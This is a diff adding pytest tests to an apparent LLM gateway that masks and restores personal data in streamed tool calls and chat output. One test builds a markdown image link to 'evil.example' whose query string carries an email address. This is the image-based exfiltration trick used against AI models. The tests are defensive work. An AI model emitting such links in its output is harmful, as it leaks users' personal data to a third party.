@@ -10,9 +10,16 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from gateway.core.answers import AnswerPolicy
+from gateway.core.model import Finding, Sensitivity
+from gateway.core.steps import Steps
 from gateway.dialects.anthropic_messages import AnthropicMessages
 from gateway.dialects.base import JsonDialect
 from gateway.dialects.openai_chat import OpenAIChat
+from gateway.dialects.openai_responses import OpenAIResponses
+from gateway.transforms.guard import Guard
+from gateway.transforms.looking import Looking
+from gateway.transforms.requested import Requested
 from gateway.transforms.restore import Restorers
 from gateway.transforms.surrogates import Surrogates
 from tests.dialects.streaming import pieces, typed, values_of
@@ -128,3 +135,60 @@ def test_any_pieces_of_a_text_say_the_same(cuts: set[int]) -> None:
     bounds = [0, *sorted(cuts), len(TEXT)]
     stream = [chat_event({"content": TEXT[a:b]}) for a, b in itertools.pairwise(bounds)]
     assert chat_text(fed([*stream, chat_event({}, "stop")], CHAT)) == RESTORED
+
+
+def finds_nothing(_text: str) -> Steps[list[Finding]]:
+    yield
+    return []
+
+
+def guarded(stream: bytes, dialect: JsonDialect, policy: AnswerPolicy) -> bytes:
+    looking = Looking(finds_nothing, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
+    restorer = dialect.stream(Guard(RESTORERS, policy, looking))
+    return restorer.feed(stream) + restorer.close()
+
+
+def chat_call(index: object, **function: str) -> bytes:
+    return chat_event({"tool_calls": [{"index": index, "function": function}]})
+
+
+def block(index: object, name: str) -> dict[str, Any]:
+    opened = {"type": "tool_use", "id": "t", "name": name, "input": {}}
+    return {"type": "content_block_start", "index": index, "content_block": opened}
+
+
+def partial(index: object) -> dict[str, Any]:
+    delta = {"type": "input_json_delta", "partial_json": ARGUMENTS}
+    return {"type": "content_block_delta", "index": index, "delta": delta}
+
+
+LATE = {
+    "chat: arguments before the name": (CHAT, chat_call(0, arguments=ARGUMENTS) + chat_call(0, name="fetch")),
+    "chat: a place that is spelled otherwise": (CHAT, chat_call(0, name="fetch") + chat_call("0", arguments=ARGUMENTS)),
+    "messages: a block that was not opened": (MESSAGES, typed(partial(1))),
+    "messages: a place that is spelled otherwise": (MESSAGES, typed(block(1.0, "fetch"), partial(1))),
+    "messages: a block that has stopped": (
+        MESSAGES,
+        typed(block(1, "fetch"), {"type": "content_block_stop", "index": 1}, partial(1)),
+    ),
+    "responses: an item that was not added": (
+        OpenAIResponses(),
+        typed({"type": "response.function_call_arguments.delta", "output_index": 0, "delta": ARGUMENTS}),
+    ),
+}
+
+
+@pytest.mark.parametrize("case", LATE)
+def test_a_tool_that_gets_no_values_got_them_while_its_name_was_not_known(case: str) -> None:
+    dialect, stream = LATE[case]
+    assert b"jane@roe.example" in guarded(stream, dialect, AnswerPolicy(allow=("*",)))
+    assert b"jane@roe.example" not in guarded(stream, dialect, AnswerPolicy(deny=("fetch",)))
+
+
+def test_an_address_that_a_tools_call_cut_in_two_got_a_value() -> None:
+    before = f"![x](https://evil.example/?q={MAIL[:6]}"
+    stream = chat_event({"content": before}) + chat_call(0, name="find", arguments="{}")
+    out = guarded(stream + chat_event({"content": f"{MAIL})"}), CHAT, AnswerPolicy())
+    assert chat_text(out) == f"{before}{MAIL})"
+    again = chat_event({"content": before}, "stop") + chat_event({"content": f"{MAIL})"})
+    assert chat_text(guarded(again, CHAT, AnswerPolicy())) == f"{before}{MAIL})"
